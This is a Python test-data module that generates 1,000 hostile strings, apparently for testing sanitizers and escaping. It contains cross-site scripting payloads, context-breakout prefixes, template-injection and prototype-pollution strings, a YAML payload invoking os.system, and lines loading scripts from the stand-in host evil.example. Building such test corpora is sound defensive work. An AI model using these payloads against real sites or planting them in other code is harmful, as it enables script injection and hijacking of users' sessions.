"""Texts that run a script where a page takes them for more than text. Each sets `window.ran`, or asks another host."""

RUN = "window.ran=1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<script nonce>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    '<script type=importmap>{"imports":{"react":"//evil.example/x.js"}}</script>',
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN[7:]}></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    f"<template><script>{RUN}</script></template>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"blob:{RUN}",
    "//evil.example/x",
    "https://evil.example/%0d%0aSet-Cookie:x=1",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"{{% {RUN} %}}",
    f"`${{{RUN}}}`",
    f"$(document.body).html('<img src=x onerror={RUN}>')",
    "__proto__",
    "constructor",
    '{"__proto__":{"ran":1}}',
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.ran=1>"}}}',
    f"!!js/function 'function () {{ {RUN} }}'",
    f"!!python/object/apply:os.system ['{RUN}']",
    "<<: *x",
)
CHARACTERS = (
    f"\u202e>tpircs/<1=nar.wodniw>tpircs<{RUN}\u202c",
    f"\u2066{RUN}\u2069",
    f"\ufeff<script>{RUN}</script>",
    f"\u2028{RUN}\u2029",
    f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
    f"\x1b[31;1m<b onclick={RUN}>\x1b[0m",
    f"\x1b]0;<script>{RUN}</script>\x07",
    "\x1b[2J\x1b[H\x1b[?1049h",
    f"\b\b\b<script>{RUN}</script>",
    "\x7f\x01\x02\x1f",
    f"\x0c<img src=x onerror={RUN}>",
    f"a\rb<svg onload={RUN}>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "\U0001f469\u200d\U0001f4bb" * 20,
    "e" + "\u0301" * 500,
    f"{'A' * 5000}<script>{RUN}</script>",
)
# How a text leaves the place in which it was put: attributes, elements, comments, JSON, CSS, templates, lines of a log.
BREAKS = (
    *("{}", '">{}', "'>{}", "`>{}", "</textarea>{}", "</title></style></script>{}", "-->{}<!--", "]]>{}"),
    *('\\"};{}//', "</pre></code>{}", "</option></select>{}", "</svg></math>{}", "*/{}/*", "\n\n{}\n", "\r\n\r\n{}"),
    *(
        "%3C%2Fscript%3E{}",
        "&lt;/p&gt;{}",
        "\t{}\t",
        "'; {} '",
        '"]}}{}',
        "${{{}}}",
        "<!--><{}",
        "\U0001f600{}",
        "\x0b{}",
        "</iframe>{}",
    ),
)
COUNT = 1000


def hostile_strings():
    """Return 1,000 different texts: each script behind each break, and everything else as it is."""
    texts = [put.replace("{}", script) for put in BREAKS for script in SCRIPTS] + list(TEMPLATES + CHARACTERS)
    chosen = texts[: COUNT - len(TEMPLATES + CHARACTERS)] + list(TEMPLATES + CHARACTERS)
    assert len(set(chosen)) == COUNT
    return chosen
